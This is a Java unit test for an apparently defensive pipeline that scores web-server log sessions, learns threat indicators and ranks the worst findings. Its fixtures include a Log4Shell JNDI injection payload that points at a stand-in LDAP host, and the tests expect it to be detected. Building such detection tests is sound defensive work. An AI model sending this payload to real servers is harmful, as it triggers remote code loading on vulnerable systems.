package dev.spoor.transforms;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.is;

import dev.spoor.model.EnrichedSession;
import dev.spoor.model.OutputLine;
import dev.spoor.model.RecordCoder;
import dev.spoor.model.ScoredSession;
import dev.spoor.model.Verdict;
import dev.spoor.scoring.rules.RuleSet;
import dev.spoor.scoring.rules.RuleSource;
import dev.spoor.scoring.score.ScoreSettings;
import dev.spoor.scoring.score.SessionScorer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.TreeSet;
import org.apache.beam.sdk.testing.PAssert;
import org.apache.beam.sdk.testing.TestPipeline;
import org.apache.beam.sdk.transforms.Create;
import org.apache.beam.sdk.values.PCollection;
import org.junit.Rule;
import org.junit.Test;

/** What a run learns, counts and picks of judged sessions, whatever their order and bundles. */
public class LearnThreatsTest {
  private static final String LINE =
      "%s - - [03/Mar/2025:10:%s:30 +0000] \"GET %s HTTP/1.1\" 200 5 \"-\" \"curl/8.5.0\"";

  @Rule public final TestPipeline pipeline = TestPipeline.create();

  private static List<ScoredSession> sessions(String... lines) {
    RuleSet rules = RuleSet.of(RuleSource.BUILT_IN);
    SessionScorer scorer = new SessionScorer(rules, rules.sessionRules(), ScoreSettings.defaults());
    List<ScoredSession> sessions = new ArrayList<>();
    for (String line : lines) {
      NormalizeSettings settings = NormalizeSettings.defaults().withRules(RuleSource.BUILT_IN);
      Collected collected = Collected.of(settings, "combined", line);
      EnrichedSession enriched =
          new EnrichedSession(
              collected.onlySession(), new SessionEnricher().enrich(collected.onlySession()));
      sessions.add(
          new ScoredSession(
              enriched.session(),
              enriched.enrichment(),
              scorer.score(enriched.session(), enriched.enrichment())));
    }
    return sessions;
  }

  private static List<ScoredSession> attacks() {
    String jndi = "/?x=$%7bjndi:ldap://198.51.100.7/a%7d";
    return sessions(
        LINE.formatted("192.0.2.1", "15", jndi),
        LINE.formatted("192.0.2.1", "50", jndi),
        LINE.formatted("192.0.2.2", "16", jndi),
        LINE.formatted("192.0.2.3", "17", "/index.html"));
  }

  private static Map<String, Threat> learned(List<ScoredSession> sessions) {
    Map<String, Threat> learned = new TreeMap<>();
    for (ScoredSession session : sessions) {
      Threat.of(
          session,
          threat -> learned.merge(threat.kind() + " " + threat.key(), threat, Threat::plus));
    }
    return learned;
  }

  @Test
  public void theOrderOfSessionsDoesNotMatter() {
    List<ScoredSession> sessions = attacks();
    Map<String, Threat> expected = learned(sessions);
    for (int seed = 0; seed < 20; seed++) {
      List<ScoredSession> shuffled = new ArrayList<>(sessions);
      java.util.Collections.shuffle(shuffled, new Random(seed));
      assertThat(learned(shuffled), is(expected));
    }
  }

  @Test
  public void addressesAndPayloadsAreKnownOnceWithHowOftenTheyCame() {
    Map<String, Threat> learned = learned(attacks());
    Threat address = learned.get("MALICIOUS_IP 192.0.2.1");
    assertThat(address.sessions(), is(2L));
    assertThat(address.requests(), is(2L));
    assertThat(address.last() - address.first(), is(35 * 60_000L));
    assertThat(learned.containsKey("MALICIOUS_IP 192.0.2.3"), is(false));
    Threat payload = learned.get("PAYLOAD java_injection.jndi ${jndi:ldap://198.51.100.7/a}");
    assertThat(payload.sessions(), is(3L));
    assertThat(payload.place(), is("argument"));
    assertThat(
        new String(payload.toJson(), UTF_8).startsWith("{\"payload\":\"${jndi:ldap://"), is(true));
  }

  @Test
  public void theTransformWritesWhatIsLearned() {
    List<ScoredSession> sessions = attacks();
    TreeSet<String> expected = new TreeSet<>();
    learned(sessions)
        .values()
        .forEach(threat -> expected.add(threat.kind().file() + new String(threat.toJson(), UTF_8)));
    PCollection<OutputLine> lines =
        pipeline
            .apply(Create.of(sessions).withCoder(RecordCoder.of(ScoredSession.class)))
            .apply(LearnThreats.learn().withGroups(3));
    PAssert.that(lines)
        .satisfies(
            found -> {
              TreeSet<String> texts = new TreeSet<>();
              found.forEach(line -> texts.add(line.file() + new String(line.line(), UTF_8)));
              assertThat(texts, is(expected));
              return null;
            });
    pipeline.run();
  }

  @Test
  public void verdictsAreCountedByDay() {
    Map<String, Map<String, Long>> tables = new TreeMap<>();
    VerdictTally tally = new VerdictTally();
    attacks().forEach(tally::add);
    tally.flush(tables::put);
    assertThat(tables.keySet(), is(new TreeSet<>(List.of("2025-03-03/counts"))));
    Map<String, Long> day = tables.get("2025-03-03/counts");
    assertThat(day.get("verdict/attacker"), is(3L));
    assertThat(day.get("attack/java_injection"), is(3L));
    assertThat(day.get("rule/java_injection.jndi"), is(3L));
    long sessions =
        Arrays.stream(Verdict.ThreatLevel.values())
            .mapToLong(level -> day.getOrDefault("level/" + level, 0L))
            .sum();
    assertThat(sessions, is(4L));
    tables.clear();
    tally.flush(tables::put);
    assertThat(tables.isEmpty(), is(true));
  }

  @Test
  public void theWorstComeFirst() {
    List<Finding> findings = new ArrayList<>();
    attacks().stream()
        .filter(Finding::isFinding)
        .forEach(session -> findings.add(Finding.of(session)));
    List<Finding> worst = FindWorst.worst(findings);
    assertThat(worst.size(), is(3));
    for (int i = 1; i < worst.size(); i++) {
      assertThat(Finding.WORST_FIRST.compare(worst.get(i - 1), worst.get(i)) < 0, is(true));
    }
    assertThat(worst.get(0).reason().isEmpty(), is(false));
    List<Finding> many = new ArrayList<>();
    for (int i = 0; i < 50; i++) {
      many.add(
          new Finding(
              "id" + i,
              "192.0.2.1",
              null,
              java.time.Instant.EPOCH,
              i,
              "attacker",
              i,
              "LOW",
              "why"));
    }
    assertThat(FindWorst.worst(many).size(), is(FindWorst.TOP));
    assertThat(FindWorst.worst(many).get(0).sessUuid(), is("id49"));
  }
}
